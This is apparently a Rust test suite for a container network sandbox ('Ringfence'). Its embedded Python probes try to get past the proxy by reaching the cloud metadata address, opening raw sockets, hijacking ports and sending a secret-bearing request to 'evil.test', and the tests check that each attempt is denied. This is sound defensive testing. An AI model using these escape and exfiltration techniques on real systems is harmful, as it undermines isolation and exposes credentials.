//! E01 to E24 as a program in a container meets them: what is listed can be reached through the guest's door, and nothing else by
//! any way. The proxy is the same as behind `native`, and tested where it is; what a program can say to it is said here, too.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use ringfence_testkit::canary::{Listener, until};

use crate::origin::{FETCH, Origin};
use crate::stage::SOON;
use crate::walls::{Walled, for_each_engine, has_violation};
use crate::world::{Run, Side, Told, Try};
use crate::{bound, leads, rows};

/// Opens a tunnel to the port that is the first argument.
const TUNNEL: &str = "
import os, socket, sys, threading, time
def tunnel(port):
    s = socket.create_connection(('127.0.0.1', 3128), 10)
    s.sendall(f'CONNECT localhost:{port} HTTP/1.1\\r\\nHost: localhost:{port}\\r\\n\\r\\n'.encode())
    head = b''
    while not head.endswith(b'\\r\\n\\r\\n'): head += s.recv(1)
    assert b' 200 ' in head, head
    return s
s = tunnel(sys.argv[1])
";

#[test]
fn e14_in_a_container_a_listed_port_of_the_host_is_reached_and_no_other() {
    let (origin, other) = (Origin::start(), Listener::start().unwrap());
    let unlisted = format!("http://localhost:{}/b", other.port());
    for_each_engine(&origin.listed(), |place| {
        origin.forget();
        let before = other.hits();
        let argv = ["python3", "-c", FETCH, &origin.url("/a"), &unlisted, "http://evil.test/x?secret"];
        let outcome = place.run(&["--json"], &argv).run().json();
        let text = outcome["stdout"].as_str().unwrap();
        assert!(text.starts_with("200 hello\n403 Ringfence denied"), "{outcome:#}");
        assert!(text.contains(&format!("localhost:{}", origin.port)), "it says what is allowed instead: {text}");
        assert_eq!((origin.asked(), other.hits()), (vec!["GET /a 0".to_owned()], before));
        // What was reached and what was denied is told as behind every wall.
        let network = outcome["network"].as_array().unwrap();
        assert_eq!(network.len(), 3, "{outcome:#}");
        assert!(network.iter().any(|one| one["allowed"] == true && one["count"] == 1 && one["status"] == 200));
        let denied = network.iter().find(|one| one["host"] == "evil.test").unwrap();
        assert_eq!((&denied["reason"], &denied["path"]), (&"net.not-listed".into(), &"/x".into()));
        assert!(has_violation(&outcome, "net.allowlist"), "{outcome:#}");
        let enforced = outcome["enforced"].as_array().unwrap();
        let evidence = enforced.iter().find(|one| one["guarantee"] == "net.allowlist").unwrap();
        assert!(evidence["evidence"].to_string().contains("only lo, no route, and our proxy at"), "{evidence}");
        assert!(std::fs::read_to_string(place.stage.ledger()).unwrap().contains("\"host\":\"evil.test\""));
        place.bare_python(FETCH, &[&unlisted]);
        assert!(other.hits() > before, "the probe proves nothing");
    });
}

#[test]
fn e01_in_a_container_an_empty_allowlist_denies_everything() {
    let origin = Origin::start();
    for_each_engine("net: { mode: allowlist, allow: [] }\n", |place| {
        origin.forget();
        let ended = place.python(FETCH, &[&origin.url("/"), "http://a.test/"]);
        let text = ended.text();
        assert_eq!(text.lines().filter(|line| line.starts_with("403 Ringfence denied")).count(), 2, "{ended:?}");
        assert!(origin.asked().is_empty());
        place.bare_python(FETCH, &[&origin.url("/")]);
        assert_eq!(origin.asked().len(), 1, "the probe proves nothing");
    });
}

#[test]
fn e12_in_a_container_there_is_no_route_past_the_proxy() {
    let (origin, other) = (Origin::start(), Listener::start().unwrap());
    let (port, unlisted) = (origin.port.to_string(), other.port().to_string());
    let code = "
import os, socket, sys
for name in list(os.environ):
    if name.lower().endswith('proxy'): del os.environ[name]
port = int(sys.argv[1])
for family, kind, address in [
    (socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', int(sys.argv[2]))), (socket.AF_INET, socket.SOCK_STREAM, ('192.0.2.1', 80)),
    (socket.AF_INET, socket.SOCK_DGRAM, ('192.0.2.1', 443)), (socket.AF_INET6, socket.SOCK_STREAM, ('2001:db8::1', 80)),
    (socket.AF_INET, socket.SOCK_STREAM, ('169.254.169.254', 80)), (socket.AF_INET, socket.SOCK_RAW, ('192.0.2.1', 0)),
    (socket.AF_INET, socket.SOCK_STREAM, ('172.17.0.1', port)), (socket.AF_INET, socket.SOCK_STREAM, ('10.88.0.1', port)),
    (socket.AF_PACKET, socket.SOCK_RAW, ('lo', 0))]:
    try:
        with socket.socket(family, kind) as s: s.settimeout(2); s.connect(address); print('reached', address)
    except OSError: pass
# Taken before any program ran; nobody else can be the proxy, tell of names, or be who is meant by one.
for kind, own in (socket.SOCK_STREAM, 3128), (socket.SOCK_STREAM, 53), (socket.SOCK_DGRAM, 53), (socket.SOCK_STREAM, 80), (socket.SOCK_STREAM, port):
    for option in socket.SO_REUSEPORT, socket.SO_REUSEADDR:
        try:
            with socket.socket(socket.AF_INET, kind) as s:
                s.setsockopt(socket.SOL_SOCKET, option, 1); s.bind(('127.0.0.1', own)); kind == socket.SOCK_STREAM and s.listen(); print('taken', own)
        except OSError: pass
print('done')
";
    for_each_engine(&origin.listed(), |place| {
        origin.forget();
        let before = other.hits();
        let ended = place.python(code, &[&port, &unlisted]);
        assert_eq!(ended.text(), "done\n", "{ended:?}");
        assert!(origin.asked().is_empty() && other.hits() == before);
        let reach = "import socket, sys; socket.create_connection(('127.0.0.1', int(sys.argv[1])), 5).close()";
        place.bare_python(reach, &[&unlisted]);
        assert!(until(SOON, || other.hits() > before), "the probe proves nothing");
        let twin = place.python(FETCH, &[&format!("http://127.0.0.1:{port}/")]);
        assert_eq!(twin.text(), "200 hello\n", "the probe proves nothing: {twin:?}");
    });
}

#[test]
fn e02_to_e24_in_a_container_what_nobody_honest_says_to_the_proxy_reaches_nobody() {
    let (origin, other) = (Origin::start(), Listener::start().unwrap());
    let ports = [origin.port.to_string(), other.port().to_string()];
    for_each_engine(&rows::policy(&origin), |place| {
        origin.forget();
        rows::check(&place.python(rows::ROWS, &[&ports[0], &ports[1]]), &origin, &other);
    });
}

/// Does `act` for every engine, with what runs a program there or without a wall.
fn tried(act: impl Fn(Run<'_>)) {
    for_each_engine("", |place| {
        act(&|it: &Try<'_>, side: Side| -> Option<Told> {
            let place = Walled::new(place.wall.clone(), it.policy);
            match side {
                Side::Walled => it.end(&place.stage, place.run(&[], &it.argv("python3"))),
                Side::Bare => {
                    let argv = it.argv("/usr/bin/python3");
                    let argv = [&["run", "-q", "--backend", "spawn", "--"], argv.as_slice()].concat();
                    it.end(place.bare(), place.bare().ringfence(argv))
                }
            }
        });
    });
}

#[test]
fn e09_in_a_container_an_allowed_name_that_leads_inside_is_refused_and_one_that_leads_outside_is_reached() {
    tried(|run| leads::check_e09(run));
}

#[test]
fn e10_in_a_container_a_name_whose_answer_changes_leads_where_the_one_answer_said_or_nowhere() {
    tried(|run| leads::check_e10(run));
}

#[test]
fn e17_in_a_container_the_second_hop_of_a_redirect_is_judged_and_the_secret_does_not_come_along() {
    tried(|run| bound::check_e17(run));
}

#[test]
fn e22_in_a_container_nobody_elses_key_gets_to_a_host_that_a_secret_is_bound_to() {
    tried(|run| bound::check_e22(run));
}

#[test]
fn e23_in_a_container_a_placeholder_gets_to_nobody_wherever_it_is_put() {
    tried(|run| bound::check_e23(run));
}

#[test]
fn e23_in_a_container_a_placeholder_in_a_name_is_not_looked_up() {
    tried(|run| leads::check_e23_names(run));
}

#[test]
fn without_an_allowlist_a_container_has_no_door() {
    let code = "
import socket, sys
for port, end in (3128, ' '), (53, '\\n'):
    try: socket.create_connection(('127.0.0.1', port), 5); print('there', end=end)
    except OSError: print('none', end=end)
";
    for_each_engine("", |place| assert_eq!(place.python(code, &[]).text(), "none none\n"));
    let origin = Origin::start();
    for_each_engine(&origin.listed(), |place| assert_eq!(place.python(code, &[]).text(), "there there\n", "the twin"));
}

#[test]
fn much_goes_both_ways_through_the_door_of_a_container() {
    let origin = Origin::start();
    let code = "
import sys, urllib.request
size = 8 * 1024 * 1024
with urllib.request.urlopen(sys.argv[1] + '/%d' % size, timeout=60) as answer: print(len(answer.read()) == size)
request = urllib.request.Request(sys.argv[1] + '/7', data=b'y' * size, method='PUT')
with urllib.request.urlopen(request, timeout=60) as answer: print(answer.read())
";
    for_each_engine(&origin.listed(), |place| {
        origin.forget();
        let argv = ["python3", "-c", code, &origin.url("")];
        let outcome = place.run(&["--json"], &argv).run().json();
        assert_eq!(outcome["stdout"], "True\nb'xxxxxxx'\n", "{outcome:#}");
        assert_eq!(origin.asked(), [format!("GET /{} 0", 8 << 20), format!("PUT /7 {}", 8 << 20)]);
        let counted = |name: &str| {
            let all = outcome["network"].as_array().unwrap().iter();
            all.map(|one| one[name].as_u64().unwrap()).sum::<u64>()
        };
        assert!(counted("bytesUp") >= 8 << 20 && counted("bytesDown") >= 8 << 20, "{:#}", outcome["network"]);
    });
}

#[test]
fn e19_many_connections_at_once_through_the_door_of_a_container_hold_up_nobody() {
    let origin = Origin::start();
    let code = "
import socket, sys, threading, urllib.request
held = []
for _ in range(600):
    s = socket.socket(); s.settimeout(1)
    try: s.connect(('127.0.0.1', 3128)); s.sendall(b'GET http://loc'); held.append(s)
    except OSError: break
print(len(held) >= 100, flush=True)
for s in held: s.close()
got = []
def fetch():
    with urllib.request.urlopen(sys.argv[1], timeout=60) as answer: got.append(len(answer.read()))
threads = [threading.Thread(target=fetch) for _ in range(64)]
for t in threads: t.start()
for t in threads: t.join()
print(got == [300000] * 64)
";
    for_each_engine(&origin.listed(), |place| {
        let ended = place.python(code, &[&origin.url("/300000")]);
        assert_eq!(ended.text(), "True\nTrue\n", "{ended:?}");
    });
}

/// A server that sends `part` without end and, in between, takes what it is sent; says how long that was when it ended.
fn endless() -> (u16, Arc<Mutex<Vec<u64>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let ended: Arc<Mutex<Vec<u64>>> = Arc::default();
    let told = Arc::clone(&ended);
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let told = Arc::clone(&told);
            std::thread::spawn(move || {
                let sent = std::io::copy(&mut std::io::repeat(b'x'), &mut { &stream }).unwrap_or(0);
                told.lock().unwrap().push(sent);
            });
        }
    });
    (port, ended)
}

#[test]
fn a_half_close_goes_through_the_door_of_a_container_in_both_directions() {
    // Answers with how much came, only when nothing more comes; and then says nothing more itself.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut all = Vec::new();
            stream.read_to_end(&mut all).unwrap();
            write!(stream, "{} bytes", all.len()).unwrap();
        }
    });
    let code = format!(
        "{TUNNEL}
s.sendall(b'z' * 500000); s.shutdown(socket.SHUT_WR)
got = b''
while True:
    more = s.recv(100)
    if not more: break
    got += more
print(got.decode())
"
    );
    for_each_engine(&format!("net: {{ mode: allowlist, localhost: [{port}] }}\n"), |place| {
        let ended = place.python(&code, &[&port.to_string()]);
        assert_eq!(ended.text(), "500000 bytes\n", "{ended:?}");
    });
}

#[test]
fn r08_a_container_that_is_stopped_during_a_transfer_ends_at_once_and_so_does_the_transfer() {
    let (port, ended) = endless();
    // One connection that reads, one that does not, and one that is left open.
    let reads = format!("{TUNNEL}\nt, u = tunnel(sys.argv[1]), tunnel(sys.argv[1])\nwhile True: s.recv(65536)\n");
    let leaves = format!("{TUNNEL}\ns.recv(1000); print('left', flush=True); os._exit(0)\n");
    for_each_engine(&format!("net: {{ mode: allowlist, localhost: [{port}] }}\n"), |place| {
        ended.lock().unwrap().clear();
        let begin = Instant::now();
        let argv = ["python3", "-c", &reads, &port.to_string()];
        let outcome = place.run(&["--json", "--timeout", "3s"], &argv).run().json();
        assert_eq!(outcome["timedOut"], true, "{outcome:#}");
        assert!(begin.elapsed() < Duration::from_secs(20), "{:?}", begin.elapsed());
        assert!(until(SOON, || ended.lock().unwrap().len() == 3), "a connection outlived its container");
        let down: u64 =
            outcome["network"].as_array().unwrap().iter().map(|one| one["bytesDown"].as_u64().unwrap()).sum();
        assert!(down > 1 << 20, "what was carried is counted: {:#}", outcome["network"]);
        let ended_by_itself = place.python(&leaves, &[&port.to_string()]);
        assert_eq!(ended_by_itself.text(), "left\n", "{ended_by_itself:?}");
        assert!(until(SOON, || ended.lock().unwrap().len() == 4), "a connection outlived its program");
        assert!(place.is_soon_empty(), "a container is left");
    });
}

#[test]
fn a_program_that_reads_nothing_holds_up_neither_its_own_output_nor_other_connections() {
    let (port, _) = endless();
    let origin = Origin::start();
    let code = format!(
        "{TUNNEL}
stuck = [tunnel(sys.argv[1]) for _ in range(20)]
time.sleep(1)
import urllib.request
with urllib.request.urlopen(sys.argv[2], timeout=20) as answer: print(answer.read().decode().strip())
print('o' * 1000000)
"
    );
    let ports = format!("net: {{ mode: allowlist, localhost: [{port}, {}] }}\n", origin.port);
    for_each_engine(&format!("{ports}proc: {{ output: 2MiB }}\n"), |place| {
        let ended = place.python(&code, &[&port.to_string(), &origin.url("/")]);
        assert!(ended.text().starts_with("hello\nooo") && ended.text().len() == 1_000_007, "{}", ended.text().len());
    });
}

#[test]
fn a_session_in_a_container_has_one_way_out_and_each_run_is_told_what_it_asked_for() {
    let origin = Origin::start();
    for_each_engine(&origin.listed(), |place| check_session(place, &origin));
}

fn check_session(place: &Walled, origin: &Origin) {
    let name = "net";
    place.ringfence(&["session", "start", name]).run().expect(0, &[]);
    let exec = |code: &str, url: &str| {
        let argv = ["session", "exec", "--json", name, "--", "python3", "-c", code, url];
        place.ringfence(&argv).run().json()
    };
    let (one, two) = (exec(FETCH, &origin.url("/one")), exec(FETCH, "http://evil.test/"));
    // Leaves its session, so that nobody takes it for a part of the run that started it.
    let later = "
import os, socket, time
if os.fork() == 0:
    os.setsid()
    for number in range(3): os.close(number)
    time.sleep(1.5)
    with socket.create_connection(('127.0.0.1', 3128), 5) as s:
        s.sendall(b'GET http://later.test/ HTTP/1.1\\r\\nHost: later.test\\r\\n\\r\\n'); s.recv(99)
";
    let three = exec(later, "");
    std::thread::sleep(Duration::from_secs(3));
    place.ringfence(&["session", "stop", name]).run();
    assert_eq!((&one["stdout"], one["network"].as_array().unwrap().len()), (&"200 hello\n".into(), 1), "{one:#}");
    assert_eq!(two["network"][0]["allowed"], false, "{two:#}");
    assert_eq!(two["network"].as_array().unwrap().len(), 1, "{two:#}");
    assert!(three["network"].is_null(), "it asked while it ran: {three:#}");
    let ledger = std::fs::read_to_string(place.stage.ledger()).unwrap();
    assert!(ledger.contains("\"host\":\"later.test\""), "what was asked for between the runs is missing: {ledger}");
    assert!(place.is_soon_empty(), "a container is left");
}

#[test]
fn what_of_the_network_a_container_cannot_do_is_refused_with_advice() {
    for (net, words) in [
        ("net: { mode: open }\n", "`net.mode: open`"),
        ("net: { mode: none, localhost: [5432] }\n", "without `net.mode: allowlist`"),
        ("net: { mode: allowlist, unix: [/run/x.sock] }\n", "`net.unix`"),
    ] {
        for_each_engine(net, |place| {
            let ended = place.run(&[], &["true"]).run();
            assert!(ended.code == 125 && ended.stderr.contains(words), "{ended:?}");
        });
    }
}
